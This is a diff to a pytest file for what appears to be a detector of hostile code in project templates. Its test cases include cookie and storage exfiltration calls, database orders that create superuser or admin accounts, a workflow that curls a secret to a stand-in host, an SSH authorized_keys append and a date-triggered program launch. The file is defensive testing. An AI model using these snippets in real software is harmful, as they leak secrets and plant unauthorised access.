@@ -19,11 +19,13 @@ TAKEN = {
     "a text of the storage": "send(JSON.stringify(localStorage))",
     "a list of the storage": "send(Object.entries(window.sessionStorage))",
     "a copy of the storage": "send({ ...localStorage })",
+    "cookies beside others": "send({ path, c: document.cookie, at })",
     "all fields": "document.addEventListener('input', (e) => send(e.target.value), true)",
 }
 NOT_TAKEN = {
     "one key": "send(localStorage.getItem('theme'))",
     "a prefix": "Object.entries(localStorage).filter(([k]) => k.startsWith('app:'))",
+    "cookies that are read": "parse(document.cookie); document.cookie.split('; ')",
     "one field": "field.addEventListener('input', (e) => send(e.target.value))",
     "keys pressed": "document.addEventListener('keydown', (e) => shortcut(e.key))",
     "a comment": "// send(JSON.stringify(localStorage))",
@@ -84,6 +86,8 @@ def test_no_host_is_a_pipe_or_a_pattern() -> None:
 
 GIVEN = {
     "a role": ("db.query('CREATE ROLE x LOGIN SUPERUSER')", "order to a database"),
+    "an account": ("db.query(\"INSERT INTO users VALUES ('x', 'admin')\")", "order to a database"),
+    "answers of a mail": ("head(`Reply-To: x@a.invalid`)", "mail box"),
     "a program": ("db.query(\"COPY t TO PROGRAM 'true'\")", "order to a database"),
     "a folder": ("s.write('CONFIG SET dir /root/.ssh/')", "order to a database"),
     "a clipboard": (r"out.write('\u001B]52;c;dHJ1ZSB0cnVl\u0007')", TERMINAL),
@@ -95,6 +99,7 @@ GIVEN = {
 }
 NOT_GIVEN = {
     "a table": "db.query('CREATE TABLE users (password text)')",
+    "a row": "db.query('INSERT INTO items VALUES ($1)')",
     "a title": r"out.write('\u001B]0;title\u0007')",
     "a computed clipboard": r"out.write(`\u001B]52;c;${text}\u0007`)",
     "a key that checks": "verify('-----BEGIN PUBLIC KEY-----\\nMFww', signature)",
@@ -139,3 +144,30 @@ STARTED = {
 @pytest.mark.parametrize(("text", "number"), STARTED.values(), ids=STARTED)
 def test_what_a_template_has_started(text: str, number: int) -> None:
     assert len(told(text, Mentioned.RECIPIENT, "template/.vscode/tasks.json")) == number
+
+
+RIGHTS = {
+    "all secrets": ("on: push\nx: echo ${{ toJSON(secrets) }}\n", 1),
+    "a secret sent": ("run: curl -d ${{ secrets.A }} https://a.invalid\n", 1),
+    "for strangers": ("on: pull_request_target\n", 1),
+    "a secret given": ("with:\n  token: ${{ secrets.A }}\n", 0),
+    "own rights": ("permissions:\n  contents: read\n", 0),
+}
+
+
+@pytest.mark.parametrize(("text", "number"), RIGHTS.values(), ids=RIGHTS)
+def test_rights_that_a_workflow_hands_out(text: str, number: int) -> None:
+    told_of = told(text, Mentioned.RECIPIENT, "template/.github/workflows/a.yml")
+    assert len(told_of) == number
+
+
+def test_what_a_command_of_a_shell_writes_to() -> None:
+    code = "require('child_process').exec(x); ssh('echo key of mine for you >> ~/.ssh/authorized_keys')"
+    assert ("", "~/.ssh/authorized_keys") in told(code, Mentioned.PATH)
+    assert told("say('a note on ~/.ssh/config for all of you here')", Mentioned.PATH) == []
+
+
+def test_a_program_that_waits_for_a_day() -> None:
+    code = "if (new Date().getDate() === 13) require('child_process').execFileSync('true')"
+    assert told(code, Mentioned.GATE) == [("date", "starts a program")]
+    assert told("require('child_process').execFileSync('true')", Mentioned.GATE) == []
